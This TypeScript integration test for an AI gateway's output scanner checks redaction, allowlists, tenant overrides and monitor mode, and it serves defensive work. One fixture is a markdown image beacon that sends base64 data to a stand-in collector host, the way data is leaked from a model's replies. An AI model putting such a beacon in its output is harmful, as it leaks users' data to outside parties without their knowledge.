import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { request } from 'undici'
import { configFile, metricMatching } from '../helpers/gateway-client.js'
import { startGateway, type GatewayProcess, type LogLine } from '../helpers/gateway-process.js'

// Output scanning under the detection override layers, through a real gateway process
// and its built-in mock provider (told what to answer with x-mock-reply): every case
// non-streamed and streamed.

const ADMIN = 'output-overrides-admin-token-0123456789'
const KEYS = { other: 'other-key-0123456789abcdef', acme: 'acme-key-0123456789abcdef', beta: 'beta-key-0123456789abcdef', gamma: 'gamma-key-0123456789abcdef', delta: 'delta-key-0123456789abcdef' }
const EMAIL = 'marta.kowalski@northwind-traders.de'
const SUPPORT = 'refunds@tailspin-toys.io'
const TOKEN = 'ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12'
const BEACON = '![s](https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU=)'
const FILLER = 'Let me look into that for you right away. '.repeat(6)

const CONFIG = {
  auth: { apiKeys: Object.entries(KEYS).map(([tenant, key]) => ({ key, tenant })) },
  admin: { token: ADMIN },
  detection: {
    routes: { chat_completions: { allowlist: [{ name: 'support-desk', exact: SUPPORT, categories: ['pii'] }] } },
    tenants: {
      acme: { mode: 'monitor' },
      beta: { policies: { 'pii.email': { enabled: false } } },
      gamma: { categories: { exfiltration: { weight: 0.5 } } },
      delta: {
        allowlist: [{ name: 'delta-mailbox', pattern: '[a-z.]+@northwind-traders[.]de', policies: ['pii.email'] }],
        routes: { chat_completions: { policies: { 'secrets.service-tokens': { enabled: false } } } },
      },
    },
  },
}

interface Answer { status: number, output: string | undefined, requestId: string, content: string, error: string | null, done: boolean }

/** Asks as `tenant` for an answer the mock gives as `text`; reads it as an SDK would, whole or streamed. */
async function ask (g: GatewayProcess, tenant: keyof typeof KEYS, text: string, stream: boolean, session?: string): Promise<Answer> {
  const r = await request(`${g.url}/v1/chat/completions`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: `Bearer ${KEYS[tenant]}`,
      'x-mock-reply': Buffer.from(text).toString('base64'),
      'x-mock-chunks': '23',
      ...(session === undefined ? {} : { 'x-session-id': session }),
    },
    body: JSON.stringify({ model: 'gpt-test', stream, messages: [{ role: 'user', content: 'Please answer my question.' }] }),
  })
  const raw = await r.body.text()
  const base = { status: r.statusCode, output: r.headers['x-infershield-output'] as string | undefined, requestId: String(r.headers['x-request-id']) }
  if (!stream) {
    const body = JSON.parse(raw) as { choices?: { message: { content: string } }[], error?: { code: string } }
    return { ...base, content: body.choices?.[0]?.message.content ?? '', error: body.error?.code ?? null, done: true }
  }
  let content = ''
  let error: string | null = null
  let done = false
  for (const block of raw.split('\n\n')) {
    if (!block.startsWith('data: ')) continue
    const data = block.slice(6)
    if (data === '[DONE]') { done = true; continue }
    const e = JSON.parse(data) as { error?: { code: string }, choices?: { delta?: { content?: string } }[] }
    if (e.error !== undefined) error = e.error.code
    content += e.choices?.[0]?.delta?.content ?? ''
  }
  return { ...base, content, error, done }
}

const outputLine = (g: GatewayProcess, requestId: string): Promise<LogLine> => g.waitForLog(l => l.event === 'output_decision' && l.req_id === requestId)

describe('output scanning honours policy overrides, through a running gateway', () => {
  let g: GatewayProcess
  before(async () => { g = await startGateway({ env: { INFERSHIELD_CONFIG: configFile(CONFIG) } }) })
  after(async () => { assert.equal(await g.stop(), 0) })

  for (const stream of [false, true]) {
    const how = stream ? 'streamed' : 'whole'

    it(`${how}: a route allowlist spares its address and redacts the others`, async () => {
      const text = `${FILLER}Write to ${SUPPORT}, not to ${EMAIL}, for the refund.`
      const r = await ask(g, 'other', text, stream)
      assert.deepEqual([r.status, r.error], [200, null])
      assert.equal(r.content, text.replace(EMAIL, '[REDACTED:email]'))
      const line = await outputLine(g, r.requestId)
      assert.deepEqual(line.allowlisted, [{ entry: 'support-desk', policy: 'pii.email', count: 1 }])
      assert.deepEqual(line.scopes, ['global', 'routes.chat_completions'])
      assert.ok(await metricMatching(g, /^infershield_allowlist_hits_total\{policy="pii.email",scope="route"\}/) >= 1)
    })

    it(`${how}: a policy disabled for a tenant leaves its values alone for that tenant only`, async () => {
      const text = `${FILLER}Write to ${EMAIL} for the refund.`
      assert.equal((await ask(g, 'beta', text, stream)).content, text)
      assert.equal((await ask(g, 'other', text, stream)).content, text.replace(EMAIL, '[REDACTED:email]'))
    })

    it(`${how}: a tenant's category weight lowers a beacon below the output's minimum risk`, async () => {
      const text = `${FILLER}Here is your chart ${BEACON} done.`
      const halved = await ask(g, 'gamma', text, stream)
      assert.deepEqual([halved.status, halved.error, halved.content], [200, null, text])
      const enforced = await ask(g, 'other', text, stream)
      assert.equal(enforced.error, 'response_blocked')
      assert.ok(!enforced.content.includes('collector-cdn'))
    })

    it(`${how}: monitor mode relays what would be blocked, logs would_block, and still redacts`, async () => {
      const before = await metricMatching(g, /^infershield_output_would_block_total\{category="exfiltration"\}/)
      const text = `${FILLER}Write to ${EMAIL}. Here is your chart ${BEACON} done.`
      const r = await ask(g, 'acme', text, stream, `monitor-${how}`)
      assert.deepEqual([r.status, r.error, r.done], [200, null, true])
      assert.equal(r.content, text.replace(EMAIL, '[REDACTED:email]'))
      if (!stream) assert.equal(r.output, 'redacted')
      const line = await outputLine(g, r.requestId)
      assert.deepEqual([line.would_block, line.enforcement, line.blocked_by], [true, 'monitor', null])
      const findings = line.findings as { policy: string, action: string, would_block: boolean }[]
      assert.deepEqual(findings.filter(f => f.would_block).map(f => [f.policy, f.action]), [['exfiltration.output-image', 'flag']])
      assert.equal(await metricMatching(g, /^infershield_output_would_block_total\{category="exfiltration"\}/), before + 1)
      // As for requests: the session records what enforcement would have done.
      const state = await (await request(`${g.adminUrl}/admin/sessions/monitor-${how}?tenant=acme`, { headers: { authorization: `Bearer ${ADMIN}` } })).body.json() as { actions: { decision: string, policies: string[] }[] }
      const recorded = state.actions.find(a => a.policies.includes('output:exfiltration.output-image'))
      assert.equal(recorded?.decision, 'block', JSON.stringify(state.actions))
    })

    it(`${how}: a tenant pattern allowlist and a tenant-route disable apply together`, async () => {
      const text = `${FILLER}Write to ${EMAIL} with token ${TOKEN} today.`
      const r = await ask(g, 'delta', text, stream)
      assert.deepEqual([r.status, r.error, r.content], [200, null, text])
      const line = await outputLine(g, r.requestId)
      assert.deepEqual(line.allowlisted, [{ entry: 'delta-mailbox', policy: 'pii.email', count: 1 }])
      assert.deepEqual(line.scopes, ['global', 'routes.chat_completions', 'tenants.delta', 'tenants.delta.routes.chat_completions'])
      const other = await ask(g, 'other', text, stream)
      assert.equal(other.content, text.replace(EMAIL, '[REDACTED:email]').replace(TOKEN, '[REDACTED:service-tokens]'))
    })
  }
})

describe('GET /admin/policies?tenant=T: the effective policy set', () => {
  let g: GatewayProcess
  before(async () => { g = await startGateway({ env: { INFERSHIELD_CONFIG: configFile(CONFIG) } }) })
  after(async () => { assert.equal(await g.stop(), 0) })

  const admin = async (query: string) => {
    const r = await request(`${g.adminUrl}/admin/policies${query}`, { headers: { authorization: `Bearer ${ADMIN}` } })
    return { status: r.statusCode, json: await r.body.json() as Record<string, any> }
  }

  it('shows what a tenant gets on a route after the layers apply, and audits the look', async () => {
    const r = await admin('?tenant=delta&route=chat_completions')
    assert.equal(r.status, 200)
    assert.deepEqual([r.json.tenant, r.json.route, r.json.mode, r.json.thresholds, r.json.allowlist_entries], ['delta', 'chat_completions', 'enforce', { block: 80, flag: 50 }, 2])
    assert.deepEqual(r.json.scopes, ['global', 'routes.chat_completions', 'tenants.delta', 'tenants.delta.routes.chat_completions'])
    const tokens = r.json.policies.find((p: { id: string }) => p.id === 'secrets.service-tokens')
    assert.deepEqual([tokens.enabled, tokens.weight], [false, null])
    await g.waitForLog(l => l.event === 'audit' && l.action === 'policies.view' && l.target === 'delta:chat_completions')
    const monitored = await admin('?tenant=acme')
    assert.deepEqual([monitored.json.mode, monitored.json.route, monitored.json.scopes], ['monitor', null, ['global', 'tenants.acme']])
  })

  it('answers an unknown tenant with unknown_tenant, and an unknown route with invalid_request', async () => {
    const unknown = await admin('?tenant=zeta')
    assert.deepEqual([unknown.status, unknown.json.error.code, unknown.json.error.param], [404, 'unknown_tenant', 'tenant'])
    const route = await admin('?tenant=acme&route=embeddings')
    assert.deepEqual([route.status, route.json.error.code, route.json.error.param], [400, 'invalid_request', 'route'])
  })

  it('still lists every policy without a tenant', async () => {
    const r = await admin('')
    assert.equal(r.status, 200)
    assert.ok(r.json.policies.length >= 8)
    assert.ok('params_schema' in r.json.policies[0])
  })
})
